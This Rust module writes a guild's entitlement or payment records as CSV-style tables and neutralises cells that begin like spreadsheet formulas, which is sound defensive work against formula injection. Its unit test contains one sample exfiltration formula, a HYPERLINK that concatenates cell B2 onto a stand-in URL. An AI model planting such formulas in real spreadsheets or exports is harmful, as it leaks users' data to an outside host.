//! What `docobo export` and the dashboard's CSV export write: a guild's entitlements (one row
//! each, with status and dates) or its recorded payments, as a table of text cells. Text a
//! provider sent that starts like a spreadsheet formula is made inert with a leading `'`.

use time::format_description::well_known::Rfc3339;

use crate::domain::{GuildId, Timestamp};
use crate::ports::{EntitlementRepo, PaymentLog, StoreError};

/// Which table to export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportData {
    Entitlements,
    Payments,
}

impl std::str::FromStr for ExportData {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "entitlements" => Ok(ExportData::Entitlements),
            "payments" => Ok(ExportData::Payments),
            other => Err(format!("no export named {other:?}: entitlements or payments")),
        }
    }
}

/// Rows of text under named columns.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table {
    pub columns: &'static [&'static str],
    pub rows: Vec<Vec<String>>,
}

const ENTITLEMENTS: &[&str] = &[
    "id",
    "guild_id",
    "user_id",
    "role_id",
    "provider",
    "external_ref",
    "status",
    "access_until",
    "created_at",
    "updated_at",
];
const PAYMENTS: &[&str] =
    &["provider", "reference", "user_id", "role_id", "amount", "refunded", "currency", "paid_at"];

/// `cell` as a spreadsheet will show it, never run it.
pub fn inert(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell.to_owned() }
}

fn at(t: Option<Timestamp>) -> String {
    t.and_then(|t| t.format(&Rfc3339).ok()).unwrap_or_default()
}

/// The guild's `data` as a table.
pub async fn export_table<R: EntitlementRepo + PaymentLog + ?Sized>(
    repo: &R,
    guild: GuildId,
    data: ExportData,
) -> Result<Table, StoreError> {
    let rows = match data {
        ExportData::Entitlements => repo
            .guild_entitlements(guild)
            .await?
            .iter()
            .map(|e| {
                vec![
                    e.id.0.to_string(),
                    e.guild.to_string(),
                    e.user.to_string(),
                    e.role.to_string(),
                    e.provider.to_string(),
                    inert(&e.external_ref.to_string()),
                    e.status().as_str().to_owned(),
                    at(e.access_until()),
                    at(Some(e.created_at)),
                    at(Some(e.updated_at)),
                ]
            })
            .collect(),
        ExportData::Payments => repo
            .payments(guild)
            .await?
            .iter()
            .map(|p| {
                vec![
                    p.provider.to_string(),
                    inert(&p.reference.to_string()),
                    p.user.map(|u| u.to_string()).unwrap_or_default(),
                    p.role.map(|r| r.to_string()).unwrap_or_default(),
                    p.amount.amount(),
                    p.refunded.amount(),
                    p.amount.currency.code().to_owned(),
                    at(Some(p.paid_at)),
                ]
            })
            .collect(),
    };
    let columns = match data {
        ExportData::Entitlements => ENTITLEMENTS,
        ExportData::Payments => PAYMENTS,
    };
    Ok(Table { columns, rows })
}

#[cfg(test)]
mod tests {
    #[test]
    fn l3_cells_that_start_like_formulas_are_exported_as_text() {
        assert_eq!(super::inert("=HYPERLINK(\"http://x/\"&B2)"), "'=HYPERLINK(\"http://x/\"&B2)");
        assert_eq!(super::inert("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(super::inert("FT123"), "FT123");
    }
}
